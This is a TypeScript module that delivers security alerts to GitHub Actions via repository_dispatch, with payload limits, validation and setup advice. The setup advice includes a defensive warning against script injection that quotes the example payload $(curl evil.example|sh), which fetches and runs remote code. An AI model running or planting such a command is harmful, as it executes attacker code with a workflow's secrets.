import * as z from 'zod/mini';
import type { Alert } from '../../domain/alert.ts';
import type { OutboundRequest, OutboundResponse } from '../../domain/outbound.ts';
import { delivered, type Outcome } from '../../domain/outcome.ts';
import { type Attempt, defineDestination } from '../_kit/define-destination.ts';
import { isSuccess, unconfirmedResponse } from '../_kit/http/http-status.ts';
import { inRepository, judgeRefusal, quotaOf, repositorySettings } from '../_kit/issues/github.ts';
import { fitted } from '../_kit/siem/shrink-to-fit.ts';

const DOCS = 'https://docs.github.com/en/rest/repos/repos#create-a-repository-dispatch-event';
const RATE_DOCS = 'https://docs.github.com/en/rest/using-the-rest-api/rate-limits-for-the-rest-api';
const EVENT_TYPE_MAX = 100;
const PROPERTIES_MAX = 10;
/** "The total size of the JSON payload must be less than 64KB." */
const PAYLOAD_MAX_BYTES = 64_000 - 1;
/** Of the whole body, of which the payload is a part. */
const BODY_ROOM_BYTES = 63_000;

const Settings = z.strictObject({
  ...repositorySettings,
  eventType: z
    ._default(
      z.string().check(
        z.regex(/^[\w.:/ -]{1,100}$/, {
          error: 'is not an event type: expected 1 to 100 letters, digits, spaces or . : / _ -',
        }),
      ),
      'tocsin-alert',
    )
    .check(z.describe('What workflows listen for: on: { repository_dispatch: { types: [tocsin-alert] } }.')),
});
type Settings = z.infer<typeof Settings>;

/** JSON text with halves of surrogate pairs replaced, which JSON can write but parsers may refuse. */
const wellFormed = (json: string): string =>
  json.replace(/\\(?:u(d[89a-f][0-9a-f]{2})|.)/g, (written: string, half?: string) =>
    half === undefined ? written : '\ufffd',
  );

/** Everything of the sender's lies under one key; what is ours stands beside it. */
const payloadOf = (alert: Alert, { deliveryId, possibleDuplicate }: Attempt, isWhole: boolean) => ({
  alert,
  delivery_id: deliveryId,
  possible_duplicate: possibleDuplicate,
  shortened: !isWhole,
});

const render = (alert: Alert, attempt: Attempt, settings: Settings): OutboundRequest => ({
  method: 'POST',
  ...inRepository(settings, '/dispatches'),
  body: fitted(alert, BODY_ROOM_BYTES, (short) =>
    wellFormed(
      JSON.stringify({ event_type: settings.eventType, client_payload: payloadOf(short, attempt, short === alert) }),
    ),
  ),
});

/** 204, and nothing else: whether a workflow listens is not told. What is no answer of GitHub's is a page on the way. */
function judge(response: OutboundResponse): Outcome {
  if (!isSuccess(response)) return judgeRefusal(response);
  return response.status === 204 ? delivered() : unconfirmedResponse;
}

const payloadIn = ({ body = '{}' }: OutboundRequest): object => JSON.parse(body).client_payload;

/** How a workflow names a part of what it got (https://docs.github.com/en/actions/concepts/security/script-injections). */
const expression = (part: string): string => `\${{ github.event.client_payload.${part} }}`;

/** 5 points each of 900 a minute are documented, and 5000 requests an hour in all. */
const PER_MINUTE = 60;

/** Starts workflows of GitHub Actions, one run an alert. */
export const githubDispatch = defineDestination<Settings>({
  docs: DOCS,
  about: {
    name: 'GitHub Actions (repository_dispatch)',
    group: 'automation',
    shows:
      'One event an alert, under client_payload: alert, delivery_id, possible_duplicate, and whether the alert had to be ' +
      'shortened. Whoever wrote the workflow decides what becomes of it.',
    setup: [
      'With the account that shall start workflows open https://github.com/settings/personal-access-tokens, "Generate new token".',
      'Resource owner: the owner; "Only select repositories": this one; Permissions, "Repository permissions", "Contents": Read and write.',
      'Put a workflow on the default branch that begins with: on: { repository_dispatch: { types: [tocsin-alert] } }.',
      `Never write ${expression('…')} into run: or into a script. Alert text is written by attackers, and GitHub pastes it ` +
        'into the script before the shell reads it: a title such as $(curl evil.example|sh) is executed, with the workflow’s secrets.',
      `Hand it over by the environment, and quote it: env: { TITLE: "${expression('alert.title')}" }, then run: echo "$TITLE". ` +
        'Or read the file: jq -r .client_payload.alert.title "$GITHUB_EVENT_PATH".',
      'After a lost answer the same alert may come twice, and possible_duplicate says so; ' +
        `concurrency: { group: "tocsin-${expression('delivery_id')}" } keeps the two from running side by side.`,
    ],
    cannot: [
      'GitHub does not say whether a workflow listens: a missing one, or one that is switched off, looks like success.',
      'GitHub knows no key for repeats, so an alert whose answer was lost is sent again and marked as a possible duplicate.',
      'The token of a GitHub App lives for an hour, so it does not do as a setting: use a personal access token.',
    ],
    limits: [
      {
        what: 'event_type',
        max: EVENT_TYPE_MAX,
        unit: 'characters',
        docs: DOCS,
        measure: ({ body = '{}' }) => JSON.parse(body).event_type.length,
      },
      {
        what: 'client_payload',
        max: PROPERTIES_MAX,
        unit: 'properties',
        docs: DOCS,
        measure: (request) => Object.keys(payloadIn(request)).length,
      },
      {
        what: 'client_payload',
        max: PAYLOAD_MAX_BYTES,
        unit: 'bytes',
        docs: DOCS,
        measure: (request) => Buffer.byteLength(JSON.stringify(payloadIn(request))),
      },
      { what: 'requests', max: 5000, unit: 'an hour', docs: RATE_DOCS },
    ],
  },
  settings: Settings,
  secrets: ['token'],
  targets: ['owner', 'repo', 'eventType'],
  audience: 'machines',
  perMinute: PER_MINUTE,
  quotaScope: quotaOf,
  render,
  judge,
});
